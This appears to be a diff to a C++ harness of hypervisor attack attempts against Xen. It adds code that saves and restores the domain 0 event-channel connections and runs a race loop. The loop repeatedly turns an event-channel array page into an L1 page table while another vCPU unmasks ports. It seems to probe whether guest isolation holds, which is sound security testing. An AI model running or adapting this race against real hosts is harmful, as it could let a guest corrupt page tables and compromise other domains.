@@ -6,6 +6,8 @@
 #include <xenpp/abi/event_channel.hpp>
 #include <xenpp/base/atomic.hpp>
 
+#include <array>
+
 namespace attack {
 
 namespace {
@@ -16,6 +18,32 @@ template <class Op>
 std::int64_t event_channel(abi::evtchn_op cmd, Op op) noexcept {
     return hypercall(abi::hypercall::event_channel_op, cmd, &op);
 }
+
+/// The ports of domain 0 that the first ones here are connected to: a reset cuts them off.
+struct connections {
+    std::array<std::uint32_t, 8> far{};
+
+    connections() noexcept {
+        for (std::uint32_t port = 1; port != far.size(); ++port) {
+            abi::evtchn_status s{};
+            s.dom = abi::domid_self;
+            s.port = port;
+            hypercall(abi::hypercall::event_channel_op, abi::evtchn_op::status, &s);
+            far[port] = s.status == abi::evtchnstat_interdomain ? s.u.interdomain.port : 0;
+        }
+    }
+
+    /// Each gets the lowest free port, which is the one that it had.
+    void restore() const noexcept {
+        for (auto const port : far) {
+            if (port != 0) {
+                abi::evtchn_bind_interdomain b{};
+                b.remote_port = port;
+                event_channel(abi::evtchn_op::bind_interdomain, b);
+            }
+        }
+    }
+};
 
 /// A table without a present entry, whose upper halves are words that wait to be unmasked.
 constexpr std::uint64_t absent =
@@ -30,16 +58,11 @@ bool is_untouched(std::uint64_t const* table) noexcept {
     return true;
 }
 
-/// Vcpu 1 unmasks ports for ever; this one makes a page theirs, takes it away, and makes it an L1.
-outcome words_of_a_table() noexcept {
-    auto* const page = new_page();
-    auto* const control = new_page();
-    if (start_vcpu(1, unmasks_for_ever) != 0) {
-        return {};
-    }
-    for (unsigned i = 0; i != 3000; ++i) {
+/// Makes a page that of event words, takes it away, and makes it an L1, again and again.
+outcome change_uses(std::uint64_t* page, mfn control) noexcept {
+    for (unsigned i = 0; i != 30'000; ++i) {
         abi::evtchn_init_control init{};
-        init.control_gfn = mfn_of(control).raw();
+        init.control_gfn = control.raw();
         if (event_channel(abi::evtchn_op::init_control, init) != 0 ||
             event_channel(abi::evtchn_op::expand_array,
                           abi::evtchn_expand_array{mfn_of(page).raw()}) != 0 ||
@@ -67,6 +90,19 @@ outcome words_of_a_table() noexcept {
         }
     }
     return harmless_if(true);
+}
+
+/// While vCPU 1 unmasks ports for ever.
+outcome words_of_a_table() noexcept {
+    connections const before;
+    auto* const page = new_page();
+    auto* const control = new_page();
+    if (start_vcpu(1, unmasks_for_ever) != 0) {
+        return {};
+    }
+    auto const result = change_uses(page, mfn_of(control));
+    before.restore();
+    return result;
 }
 
 constexpr attempt list[] = {
